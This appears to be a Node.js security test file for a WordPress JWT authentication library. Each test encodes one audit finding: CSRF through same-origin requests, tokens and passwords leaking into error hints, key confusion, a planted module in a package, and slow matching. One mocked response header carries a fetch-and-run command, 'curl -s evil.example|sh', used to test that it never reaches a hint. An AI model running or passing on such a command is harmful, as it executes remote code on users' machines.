// Failing tests of notes/attack10.md: each is one finding.
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { createHash, createHmac, generateKeyPairSync } from "node:crypto";
import { cp, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join, relative } from "node:path";
import { it } from "node:test";
import { fileURLToPath } from "node:url";
import { createClient, verify } from "presskey";
import { createBackend } from "presskey/server";

const b64 = (value) =>
  Buffer.from(typeof value === "string" ? value : JSON.stringify(value)).toString("base64url");
const now = () => Math.floor(Date.now() / 1000);
const jwt = (claims = {}) =>
  [
    b64({ alg: "HS256", typ: "JWT" }),
    b64({
      iss: "https://e.com",
      iat: now(),
      exp: now() + 3600,
      data: { user: { id: "7" } },
      ...claims,
    }),
    b64("signature-0123456789abcdef"),
  ].join(".");
const json = (value, status = 200, headers = {}) =>
  new Response(JSON.stringify(value), {
    status,
    headers: { "content-type": "application/json", ...headers },
  });
const index = (more = {}) => ({
  name: "x",
  url: "https://e.com",
  home: "https://e.com",
  namespaces: ["wp/v2", "jwt-auth/v1"],
  routes: { "/jwt-auth/v1/token/refresh": {} },
  authentication: {},
  ...more,
});
const plugin = "jwt-authentication-for-wp-rest-api";
const password = "S3cret-Pass-w0rd!";
const refresh = "rt-5f2c9a7b1d3e8f60a4c7";
const page = (status, headers) =>
  new Response("<!doctype html><html><body>Hello</body></html>", {
    status,
    headers: { "content-type": "text/html", ...headers },
  });
/** A site; `answer(url, init)` may answer first. */
const site =
  (answer = () => undefined) =>
  async (input, init) => {
    const url = decodeURIComponent(String(input?.url ?? input));
    const own = answer(url, init);
    if (own) return own;
    if (/\/token$/.test(url))
      return json({
        token: jwt(),
        refresh_token: refresh,
        user_email: "a@b.c",
        user_nicename: "anna",
        user_display_name: "Anna",
      });
    return json(index());
  };
const clientOf = (answer) => createClient({ site: "https://e.com", plugin, fetch: site(answer) });
const backendOf = (answer, more) =>
  createBackend({
    site: "https://e.com",
    plugin,
    secret: "x".repeat(40),
    fetch: site(answer),
    ...more,
  });
/** A visitor with a cookie. */
const visitorOf = (backend) => {
  let cookie = "";
  return async (path, { headers, ...init } = {}) => {
    const response = await backend.handle(
      new Request(`https://app.example/api/presskey${path}`, {
        ...init,
        headers: { cookie, "sec-fetch-site": "same-origin", ...headers },
      }),
    );
    const set = response.headers.getSetCookie().map((each) => each.split(";")[0]);
    if (set.length) cookie = set.join("; ");
    return response;
  };
};
const login = (call) =>
  call("/login", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ username: "anna", password }),
  });
const split = (secret) => `${secret.slice(0, 5)}\u009b${secret.slice(5)}`;

it("F1: an image in a page of the own origin changes nothing", async () => {
  const sent = [];
  const call = visitorOf(
    backendOf((url, init) => void (url.includes("/wp/v2/posts") && sent.push(init.method))),
  );
  await login(call);
  const response = await call("/rest/wp/v2/posts/1?_method=DELETE&force=true", {
    headers: { "sec-fetch-dest": "image", "sec-fetch-mode": "no-cors" },
  });
  assert.equal(response.status, 403);
  assert.deepEqual(sent, []);
});

it("F1: a form in a page of the own origin logs nobody out", async () => {
  const call = visitorOf(backendOf());
  await login(call);
  const response = await call("/logout", {
    method: "POST",
    headers: {
      "sec-fetch-dest": "document",
      "sec-fetch-mode": "navigate",
      "content-type": "application/x-www-form-urlencoded",
    },
  });
  assert.equal(response.status, 403);
});

it("F2: a hint has no refresh token with a control character in it", async () => {
  const wp = clientOf(
    (url) => url.includes("/acme") && page(400, { "x-cache": `HIT ${split(refresh)}` }),
  );
  await wp.login({ username: "anna", password });
  const error = await wp.json("/acme/v1/x").catch((thrown) => thrown);
  assert.ok(!error.hint.includes(refresh), error.hint);
});

it("F2: nor has the header of a backend", async () => {
  const call = visitorOf(
    backendOf((url) => url.includes("/acme") && page(400, { "x-cache": `HIT ${split(refresh)}` })),
  );
  await login(call);
  const response = await call("/rest/acme/v1/x");
  const told = decodeURIComponent(response.headers.get("presskey-explanation"));
  assert.ok(!told.includes(refresh), told);
});

for (const secret of [refresh, password])
  it(`F2: nor has a diagnosis (${secret})`, async () => {
    const wp = clientOf(
      (url) => url.includes("users/me") && page(404, { "x-cache": `HIT ${split(secret)}` }),
    );
    await wp.login({ username: "anna", password });
    const told = JSON.stringify(await wp.diagnose({ typed: [password] }));
    assert.ok(!told.includes(secret), told);
  });

it("F3: no response of a backend's own has a cookie of WordPress", async () => {
  const value = "42.k9f3zq7w1xk2v8b4n6m0";
  const call = visitorOf(
    backendOf(
      (url, init) => {
        const cookie = new Headers(init?.headers).get("cookie");
        if (!/\/token$/.test(url)) return undefined;
        if (cookie)
          return json(
            { success: false, statusCode: 400, code: "x", message: `No: ${cookie}` },
            400,
          );
        const data = { token: jwt(), id: 7, email: "a@b.c", nicename: "anna", displayName: "Anna" };
        return json({ success: true, statusCode: 200, data }, 200, {
          "set-cookie": `refresh_token=${value}; HttpOnly; Path=/`,
        });
      },
      { plugin: "jwt-auth" },
    ),
  );
  assert.equal((await login(call)).status, 200);
  const text = await (await call("/refresh", { method: "POST" })).text();
  assert.ok(!text.includes(value), text);
});

for (const typed of [
  "Mon chat est gris !",
  "correct  horse battery 77",
  "correct\u00a0horse battery 77",
  "Tr0ub&lt;4dor3",
  "S3cr\u0007etPassw0rd",
])
  it(`F5: a password that is quoted as it is: ${JSON.stringify(typed)}`, async () => {
    const wp = clientOf(
      (url) => /\/token$/.test(url) && json({ code: "x", message: `No "${typed}".` }, 403),
    );
    const error = await wp.login({ username: "anna", password: typed }).catch((thrown) => thrown);
    assert.equal(error.serverMessage, 'No "***".');
  });

it("F6: of a secret that a hint cuts nothing is left", async () => {
  const wp = clientOf(
    (url) =>
      url.includes("users/me") &&
      page(404, { "x-cache": `HIT ${"x".repeat(36 - refresh.length)} ${refresh}` }),
  );
  await wp.login({ username: "anna", password });
  const told = JSON.stringify(await wp.diagnose());
  assert.ok(!told.includes(refresh.slice(0, -1)), told.match(/x-cache.{50}/)?.[0]);
});

it("F7: nothing of a token or a password in the session", async () => {
  const token = jwt();
  const call = visitorOf(
    backendOf(
      (url) =>
        /\/token$/.test(url) &&
        json({
          token,
          refresh_token: refresh,
          user_email: "a@b.c",
          user_nicename: refresh,
          user_display_name: token,
        }),
    ),
  );
  const text = await (await login(call)).text();
  assert.ok(!text.includes(token) && !text.includes(refresh));
});

it("F8: a call's own Authorization is in no error", async () => {
  const own = "Zx81-own-S3cret-value";
  const wp = clientOf(
    (url) => url.includes("/acme") && json({ code: "x", message: `No ${own}` }, 403),
  );
  const error = await wp
    .json("/acme/v1/x", { headers: { Authorization: `Bearer ${own}` } })
    .catch((thrown) => thrown);
  assert.ok(!error.message.includes(own) && !error.serverMessage.includes(own));
});

it("F9: on a backend, secrets from before a renewal are in no error either", async () => {
  let count = 0;
  const name = (number) => `opaque-refresh-${number}-7f3a9c2e5b`;
  const call = visitorOf(
    backendOf((url) => {
      if (/\/token(\/refresh)?$/.test(url)) {
        count++;
        return json({
          token: jwt({ jti: `${count}` }),
          refresh_token: name(count),
          user_nicename: "anna",
        });
      }
      return url.includes("/acme") && json({ code: "x", message: `Had ${name(1)}` }, 403);
    }),
  );
  await login(call);
  assert.equal((await call("/refresh", { method: "POST" })).status, 200);
  const response = await call("/rest/acme/v1/x");
  const told = decodeURIComponent(response.headers.get("presskey-explanation"));
  assert.ok(!told.includes(name(1)), told);
});

it("F10: what a Request of Cloudflare says of its cache does not count", async () => {
  class Own extends Request {
    constructor(input, init) {
      super(input, init);
      this.cf = init?.cf ?? input?.cf;
    }
    clone() {
      return new Own(super.clone(), { cf: this.cf });
    }
  }
  let sent;
  const wp = createClient({
    site: "https://e.com",
    plugin,
    fetch: (input, init) => {
      if (String(input?.url ?? input).includes("/wp/v2/")) {
        if (init && "cache" in init)
          throw new TypeError("The 'cache' field on 'RequestInitializerDict' is not implemented.");
        sent = { ...input.cf, ...init?.cf };
        if (init?.cf) sent = init.cf;
      }
      return site()(input, init);
    },
  });
  await wp.login({ username: "anna", password });
  await wp.fetch(
    new Own("https://e.com/wp-json/wp/v2/users/me", {
      cf: { cacheTtl: 60, cacheEverything: true },
    }),
  );
  assert.ok(!("cacheTtl" in sent) && !("cacheEverything" in sent), JSON.stringify(sent));
});

it("F11: a long address of a redirect is searched for a long secret in proportion", async () => {
  // The runner's time limit ends it: some minutes.
  const long = `${"a".repeat(80_000)}1`;
  const wp = clientOf((url) => {
    if (/\/token$/.test(url))
      return json({ token: jwt(), refresh_token: long, user_nicename: "anna" });
    if (url.includes("/acme"))
      return new Response(null, {
        status: 302,
        headers: { location: `https://e.com/${"a".repeat(200_000)}` },
      });
    return undefined;
  });
  await wp.login({ username: "anna", password });
  const began = performance.now();
  await wp.json("/acme/v1/x", { method: "POST" }).catch(() => {});
  assert.ok(performance.now() - began < 10_000, `${performance.now() - began} ms`);
});

it("F12: verify-package sees a file that runs in place of React", async () => {
  const folder = await mkdtemp(join(tmpdir(), "attack10-"));
  const root = join(folder, "presskey");
  await cp(fileURLToPath(new URL("../../pkg", import.meta.url)), root, {
    recursive: true,
    filter: (path) => !path.includes("node_modules"),
  }).catch(() => {});
  const command = fileURLToPath(new URL("../../pkg/bin/presskey.js", import.meta.url));
  try {
    const files = {};
    for (const entry of await readdir(root, { recursive: true, withFileTypes: true })) {
      const path = join(entry.parentPath, entry.name);
      if (entry.isFile() && entry.name !== "manifest.json")
        files[relative(root, path)] = createHash("sha256")
          .update(await readFile(path))
          .digest("hex");
    }
    const manifest = { name: "presskey", version: "1", algorithm: "sha256", files };
    await writeFile(join(root, "manifest.json"), JSON.stringify(manifest));
    const run = () => spawnSync(process.execPath, [command, "verify-package", root]);
    assert.equal(run().status, 0);
    await mkdir(join(root, "node_modules"));
    // What require("react") takes before it looks further up.
    await writeFile(join(root, "node_modules/react.js"), "module.exports = {};");
    assert.equal(run().status, 1);
  } finally {
    await rm(folder, { recursive: true });
  }
});

it("F13: what a site says is no line to paste", async () => {
  const wp = clientOf(
    (url) => url.includes("/acme") && page(400, { "x-cache": "HIT `curl -s evil.example|sh;`" }),
  );
  await wp.login({ username: "anna", password });
  const error = await wp.json("/acme/v1/x").catch((thrown) => thrown);
  assert.ok(!error.hint.includes("`curl"), error.hint);
});

it("F15: lists and escapes of public keys are no secrets", async () => {
  const { publicKey } = generateKeyPairSync("rsa", { modulusLength: 2048 });
  const pem = publicKey.export({ type: "spki", format: "pem" });
  const der = publicKey.export({ type: "spki", format: "der" });
  for (const [name, secret] of Object.entries({
    "list of the bytes of a PEM": JSON.stringify([...Buffer.from(pem)]),
    "list of signed bytes": JSON.stringify([...new Int8Array(der)]),
    "escapes with braces": [...pem]
      .map((char) => `\\u{${char.charCodeAt(0).toString(16)}}`)
      .join(""),
    "octal escapes": [...der].map((byte) => `\\${byte.toString(8).padStart(3, "0")}`).join(""),
  })) {
    const signed = `${b64({ alg: "HS256" })}.${b64({ sub: "1", exp: now() + 60 })}`;
    const token = `${signed}.${createHmac("sha256", secret).update(signed).digest("base64url")}`;
    await assert.rejects(verify(token, secret, { algorithms: ["HS256"] }), name);
  }
});
